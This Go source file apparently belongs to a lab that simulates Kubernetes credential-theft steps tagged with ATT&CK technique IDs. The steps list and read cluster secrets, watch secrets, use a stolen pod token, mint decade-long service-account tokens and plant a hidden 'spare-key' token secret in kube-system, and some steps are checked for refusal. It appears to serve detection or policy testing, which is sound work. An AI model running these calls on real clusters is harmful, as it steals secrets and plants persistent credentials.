package attack

import (
	"fmt"
	"net/http"
)

// credentials are the steps that collect secrets and tokens.
func credentials() []Step {
	return []Step{
		{"A08", "T1552.007", "every secret of the cluster listed", listAllSecrets},
		{"A09", "T1552.007", "secrets read one by one, namespace after namespace", readSecrets},
		{"A10", "T1552.007", "secrets carried off by watching", watchSecrets},
		{"A11", "T1552.007", "a pod's token used from outside the cluster", useStolenToken},
		{"A12", "T1528", "tokens issued for powerful service accounts", issueTokens},
		{"A13", "T1550.001", "stolen tokens and others' permissions put to the API server", reviewTokens},
		{"A14", "T1552.007", "secrets of other teams asked for, refused", refusedSecrets},
	}
}

func listAllSecrets(l *Lab) []act {
	return []act{
		l.breakglass.get("/api/v1/secrets?limit=500"),
		l.breakglass.table("/api/v1/secrets"),
		l.breakglass.with(requests).get("/api/v1/secrets"),
	}
}

func readSecrets(l *Lab) []act {
	return []act{
		l.breakglass.get("/api/v1/namespaces/ledger/secrets/database"),
		l.breakglass.get("/api/v1/namespaces/billing/secrets/card-processor"),
		l.breakglass.table("/api/v1/namespaces/kube-system/secrets"),
		l.breakglass.table("/api/v1/namespaces/safe/secrets"),
		l.breakglass.with(curl).get("/api/v1/namespaces/ledger/secrets/database"),
	}
}

func watchSecrets(l *Lab) []act {
	return []act{
		l.breakglass.get("/api/v1/secrets?watch=true&timeoutSeconds=1"),
		l.breakglass.get("/api/v1/watch/secrets?timeoutSeconds=1"), // the paths of old
		l.breakglass.get("/api/v1/watch/namespaces/ledger/secrets/database?timeoutSeconds=1"),
	}
}

func useStolenToken(l *Lab) []act {
	s := l.storefront
	return []act{
		s.get("/api/v1/secrets"),
		s.with(requests).get("/api/v1/namespaces/ledger/secrets/database"),
		s.with(goClient).get("/api/v1/namespaces/kube-system/configmaps"),
		s.with(kubectl).create(`
apiVersion: authorization.k8s.io/v1
kind: SelfSubjectRulesReview
spec: {namespace: default}`),
		s.with(kubectl).table("/api/v1/secrets"),
		s.with(kubectl).table("/api/v1/nodes").refused(),
		s.with(kubectl).post("/api/v1/namespaces/kube-system/serviceaccounts/default/token", tokenRequest).refused(),
	}
}

const tokenRequest = `
apiVersion: authentication.k8s.io/v1
kind: TokenRequest`

func issueTokens(l *Lab) []act {
	accounts := "/api/v1/namespaces/kube-system/serviceaccounts/"
	secret := "/api/v1/namespaces/kube-system/secrets/spare-key"
	return []act{
		l.breakglass.post(accounts+"clusterrole-aggregation-controller/token", tokenRequest+`
spec: {expirationSeconds: 315360000}`),
		l.breakglass.post("/api/v1/namespaces/delivery/serviceaccounts/deployer/token", tokenRequest),
		l.breakglass.post(accounts+"default/token", tokenRequest+`
spec: {audiences: ["https://elsewhere.example"]}`),
		l.breakglass.create(`
apiVersion: v1
kind: Secret
type: kubernetes.io/service-account-token
metadata:
  name: spare-key
  namespace: kube-system
  annotations: {kubernetes.io/service-account.name: clusterrole-aggregation-controller}`),
		l.breakglass.get(secret),
	}
}

func reviewTokens(l *Lab) []act {
	return []act{
		l.breakglass.create(fmt.Sprintf(`
apiVersion: authentication.k8s.io/v1
kind: TokenReview
spec: {token: %q}`, l.token)),
		l.breakglass.create(`
apiVersion: authorization.k8s.io/v1
kind: SubjectAccessReview
spec: {user: walter@corp.example, resourceAttributes: {verb: get, resource: secrets, namespace: ledger}}`),
		l.breakglass.create(`
apiVersion: authorization.k8s.io/v1
kind: LocalSubjectAccessReview
metadata: {namespace: ledger}
spec: {user: victor@corp.example, resourceAttributes: {verb: get, resource: secrets, namespace: ledger}}`),
	}
}

func refusedSecrets(l *Lab) []act {
	return []act{
		l.developer.get("/api/v1/namespaces/ledger/secrets/database").refused(),
		l.developer.get("/api/v1/namespaces/safe/secrets").refused(),
		l.developer.get("/api/v1/namespaces/kube-system/secrets/spare-key").refused(),
		l.developer.get("/api/v1/namespaces/sandbox/secrets").answers(http.StatusOK),
	}
}
